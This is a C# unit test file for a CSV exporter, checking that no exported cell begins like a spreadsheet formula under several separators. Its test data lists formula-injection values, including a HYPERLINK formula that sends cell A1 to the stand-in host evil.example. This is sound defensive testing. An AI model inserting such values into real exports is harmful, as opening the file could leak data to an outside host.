using System.Text;
using Muster.Server.Exporting;

namespace Muster.Server.Tests;

/// <summary>No text becomes a formula, whichever separator a spreadsheet takes.</summary>
public sealed class CsvTextTests
{
    public static TheoryData<string> Hostile =>
        [
            "=1+1",
            "x;=HYPERLINK(\"http://evil.example/\"&A1)",
            ";=1+1",
            "a; =1+1",
            "a;;@SUM(A1)",
            "a\t=1+1",
            "a\n=1+1",
            "a\r\n+1",
            "a;\"=1+1\"",
            "a,b;-1",
            "a;＝1+1",
            "a;\u00A0=1",
        ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void No_cell_begins_like_a_formula(string text)
    {
        var line = string.Join(',', new[] { "first", text, text }.Select(CsvText.Field)) + "\r\n";
        foreach (var separator in ",;\t")
            Assert.All(Cells(line, separator), cell => Assert.DoesNotMatch("^[ \u00A0\u3000]*[=+\\-@＝＋－＠]", cell));
    }

    [Theory]
    [InlineData("Müller; Söhne")]
    [InlineData("a=b")]
    [InlineData("North - South")]
    public void What_is_harmless_stays_as_it_is(string text) => Assert.Equal(text, CsvText.Field(text));

    /// <summary>As a spreadsheet reads it: quotes count where a cell begins with one.</summary>
    private static List<string> Cells(string text, char separator)
    {
        var cells = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var at = 0; at < text.Length; at++)
            if (quoted && text[at] == '"' && at + 1 < text.Length && text[at + 1] == '"')
                cell.Append(text[at++]);
            else if (text[at] == '"' && (quoted || cell.Length == 0))
                quoted = !quoted;
            else if (!quoted && (text[at] == separator || text[at] is '\r' or '\n'))
            {
                cells.Add(cell.ToString());
                cell.Clear();
            }
            else
                cell.Append(text[at]);
        return cells;
    }
}
